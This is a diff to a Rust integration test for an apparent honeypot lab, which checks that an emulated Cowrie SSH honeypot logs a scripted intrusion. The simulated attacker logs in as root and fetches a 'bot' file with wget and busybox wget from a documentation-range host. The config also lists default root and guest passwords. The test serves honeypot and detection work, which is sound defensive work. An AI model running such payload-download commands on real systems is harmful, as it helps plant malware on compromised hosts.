@@ -25,9 +25,13 @@ images:
     users: [{name: root, password: toor}, {name: guest, password: guest}]
 nodes:
   wan: {kind: uplink}
+  core: {kind: switch, ports: 3}
   any: {kind: host, address: 192.0.2.10, template: any}
+  store: {kind: host, address: 192.0.2.66, tcp: {80: {http: {server: nginx, pages: {/bot: "echo bot"}}}}}
 links:
-  - endpoints: [wan, any]
+  - endpoints: [wan, "core:1"]
+  - endpoints: [any, "core:2"]
+  - endpoints: [store, "core:3"]
 "#;
 
 #[test]
@@ -47,7 +51,8 @@ fn an_intrusion_by_ssh_reads_as_cowrie_has_it() {
         ("assword:", "second"),
         ("# ", "echx\x7fo $((6*7))"),
         (r"42\r\n.*# ", "wget http://192.0.2.66/bot"),
-        ("# ", "exit"),
+        ("saved.*# ", "busybox wget -qO /tmp/x http://192.0.2.66/none"),
+        ("404.*# ", "exit"),
     ];
     typing(&lines, &[&["ssh"][..], &OPTIONS, &["root@192.0.2.10"]].concat(), |words| from.sh(words));
     let bot = lab.file("bot", "#!/bin/sh\n:\n");
@@ -56,7 +61,8 @@ fn an_intrusion_by_ssh_reads_as_cowrie_has_it() {
     lab.wait_told("shell.command", "192.0.2.10", &["\"wget http://192.0.2.66/bot\""]);
     lab.wait_told("ssh.file", "192.0.2.10", &["bot"]);
     wait_for("four connections to end", || {
-        (lab.events().iter().filter(|event| event["event"] == "tcp.close").count() >= 4).then_some(())
+        let ended = |event: &&Value| event["event"] == "tcp.close" && event["dst"]["port"] == 22;
+        (lab.events().iter().filter(ended).count() >= 4).then_some(())
     });
     lab.down();
 
@@ -73,12 +79,17 @@ fn an_intrusion_by_ssh_reads_as_cowrie_has_it() {
     assert_eq!(
         of_session(2),
         format!(
-            "{hello} login.success client.size session.params command.input command.input command.input log.closed session.closed"
+            "{hello} login.success client.size session.params command.input command.input session.file_download command.input \
+             session.file_download.failed command.input log.closed session.closed"
         )
     );
     assert!(of_session(3).contains("session.file_upload"), "{}", of_session(3));
     let inputs = jq(&lab, "cowrie.json", "sort_by(.timestamp) | map(.input // empty) | join(\";\")");
-    assert!(inputs.starts_with("uname -a;echo $((6*7));wget http://192.0.2.66/bot;exit"), "{inputs}");
+    assert!(inputs.starts_with("uname -a;echo $((6*7));wget http://192.0.2.66/bot;busybox wget"), "{inputs}");
+    // What was fetched inside, by whose connection.
+    let fetched = "map(select(.url // \"\" | startswith(\"http\")) | [.url, .destfile, .protocol, .dst_port] | map(tostring) | join(\" \"))";
+    let fetched = jq(&lab, "cowrie.json", &format!("{fetched} | join(\";\")"));
+    assert_eq!(fetched, "http://192.0.2.66/bot /root/bot ssh 22;http://192.0.2.66/none null ssh 22");
     let logins =
         "map(select(.eventid | startswith(\"cowrie.login\")) | [.username, .password] | join(\"/\"))[:2] | join(\" \")";
     assert_eq!(jq(&lab, "cowrie.json", logins), "root/first root/second");
